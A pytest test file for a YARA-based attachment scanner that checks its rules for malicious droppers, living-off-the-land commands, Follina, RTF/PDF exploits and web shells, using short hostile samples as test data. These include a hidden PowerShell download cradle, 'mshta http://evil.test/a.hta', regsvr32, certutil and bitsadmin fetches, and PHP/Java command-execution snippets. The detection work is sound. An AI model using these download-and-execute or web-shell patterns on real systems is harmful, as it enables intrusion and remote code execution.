"""Both engines behind one interface, and rules that do not compile."""

import re
from pathlib import Path

import pytest

from scanners.attachments import yara
from scanners.attachments.yara import ENGINES, RulesError
from tests.scanners.attachments.samples import EICAR

_RULE = 'rule words { meta: severity = 2 strings: $a = "needle" condition: #a > 1 }'


def _compiled(engine: str, source: Path | str | dict[str, str] | None) -> yara.CompiledRules:
    if engine == "yara-x":
        pytest.importorskip("yara_x", reason="yara-x missing: pip install sealgate[yara-x]")
    return yara.compile_rules(source, engine)


@pytest.mark.parametrize("engine", ENGINES)
def test_shipped_rules_find_eicar_and_leave_text_alone(engine: str, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, None).save(tmp_path))
    (hit,) = loaded.match(b"x" * 10 + EICAR)
    assert (hit.rule, hit.severity, hit.offset, hit.length, hit.count) == ("eicar", 4, 10, 68, 1)
    assert loaded.match("本合同总价：USD 120,000 powershell is a shell".encode()) == ()


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("powershell_dropper", b"PowerShell -w hidden (New-Object Net.WebClient).DownloadString('http://x')"),
        ("powershell_dropper", "powershell -enc ".encode("utf-16-le") + ("A" * 80).encode("utf-16-le")),
        ("script_dropper", b'CreateObject("MSXML2.XMLHTTP") ADODB.Stream WScript.Shell'),
        ("living_off_the_land", b"cmd /c mshta http://evil.test/a.hta"),
        ("follina", b"ms-msdt:/id PCWDiagnostic IT_BrowseForFile="),
        ("pdf_launch_command", b"%PDF-1.4 /Launch /F (cmd.exe)"),
        ("rtf_object_autoload", b"{\\rtf1 \\object\\objupdate {\\*\\objdata 00}}"),
    ],
)
def test_each_shipped_rule_has_its_prey(engine: str, rule: str, data: bytes, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, None).save(tmp_path))
    assert rule in {hit.rule for hit in loaded.match(data)}


_PREY = (
    EICAR,
    b"PowerShell -w hidden (New-Object Net.WebClient).DownloadString('http://x')",
    "powershell -enc ".encode("utf-16-le") + ("A" * 80).encode("utf-16-le"),
    b"winhttp.winhttprequest adodb.stream SHELLEXECUTE",
    "URLDownloadToFile Shell.Application".encode("utf-16-le"),
    b"REGSVR32 /s /u /i:http://x scrobj.dll",
    "certutil.exe -urlcache".encode("utf-16-le"),
    b"bitsadmin /transfer job",
    b"rundll32.exe javascript:x",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40) + bytes.fromhex("02CE020000000000C000000000000046"),
    b"{\\rt 02CE020000000000C000000000000046",
    b"{\\rt " + "eQuation.3".encode("utf-16-le"),
    b"{\\rtf1 \\object\\objupdate {\\*\\objdata 00}}",
    "DDEAUTO cmd.exe".encode("utf-16-le"),
    b"MS-MSDT:/id IT_browseForFile",
    b"%PDF-1.4 /Launch /F (CMD.EXE)",
    b"<?php EVAL ( $_post['x'])",
    b"Runtime.getRuntime().exec( request.getParameter(1))",
)


def test_no_shipped_rule_matches_past_its_gate(tmp_path: Path) -> None:
    """Every rule has a gate, and what it matches (the strings of each alternative included) opens it."""
    source = (yara.RULES_DIR / "base.yar").read_text()
    bare = re.sub(r"(?m)^ *gate = .*\n", "", source)
    ungated = yara.load_rules(_compiled("yara", bare).save(tmp_path))
    gated = yara.load_rules(_compiled("yara", source).save(tmp_path))
    assert (
        source.count("\nrule ")
        == source.count(" gate = ")
        == len({hit.rule for p in _PREY for hit in ungated.match(p)})
    )
    for prey in _PREY:
        for data in (prey, bytes(5_000) + prey + bytes(5_000), b"{\\rt" + prey):
            assert gated.match(data) == ungated.match(data)
        assert gated.match(prey)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("metas", "data", "found"),
    [
        (("absent", "absent"), b"needle needle", 0),  # the gates decide: such content never reaches the rules
        (("NEEDLE | absent", "{ 6E 65 }"), b"needle needle", 2),
        (("absent", ""), b"needle needle", 2),  # an empty gate is none
        (("absent", "x | "), b"needle needle", 2),
        (("absent", "{ 6 }"), b"needle needle", 2),
        (("absent", None), b"needle needle", 2),  # a rule without one opens it for all
    ],
)
def test_a_gate_holds_only_when_every_rule_has_one(
    engine: str, metas: tuple[str | None, ...], data: bytes, found: int, tmp_path: Path
) -> None:
    pytest.importorskip("hyperscan", reason="hyperscan missing: pip install hyperscan")
    gates = ["" if meta is None else f'gate = "{meta}"' for meta in metas]
    body = 'strings: $a = "needle" condition: #a > 1 }'
    rules = "\n".join(f"rule r{number} {{ meta: severity = 1 {gate} {body}" for number, gate in enumerate(gates))
    loaded = yara.load_rules(_compiled(engine, rules).save(tmp_path))
    assert len(loaded.match(data)) == found


@pytest.mark.parametrize("engine", ENGINES)
def test_own_rules_severity_and_count(engine: str, tmp_path: Path) -> None:
    loaded = yara.load_rules(_compiled(engine, _RULE).save(tmp_path))
    (hit,) = loaded.match(b"a needle and a needle")
    assert (hit.rule, hit.severity, hit.count) == ("words", 2, 2)


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("text", ["rule {", 'include "other.yar"\n' + _RULE, "rule a { condition: undefined_word }"])
def test_rules_that_do_not_compile_say_so(engine: str, text: str) -> None:
    with pytest.raises(RulesError):
        _compiled(engine, text)


def test_the_version_is_that_of_the_sources() -> None:
    first, second = yara.compile_rules({"a": _RULE}), yara.compile_rules({"a": _RULE + " "})
    assert first.version == yara.compile_rules({"a": _RULE}).version
    assert first.version != second.version


def test_a_folder_of_rules(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(_RULE)
    (tmp_path / "more.yara").write_text(_RULE.replace("words", "others"))
    assert yara.compile_rules(tmp_path).count == 2


def test_what_is_not_compiled_does_not_load(tmp_path: Path) -> None:
    for name in ("yara-1.rules", "yara-x-1.rules"):
        (tmp_path / name).write_bytes(b"rubbish")
        with pytest.raises(RulesError):
            yara.load_rules(tmp_path / name)
    with pytest.raises(RulesError):
        yara.read_sources(tmp_path / "missing.yar")


def test_unknown_engine() -> None:
    with pytest.raises(RulesError, match="yara-x"):
        yara.compile_rules(_RULE, "clam")
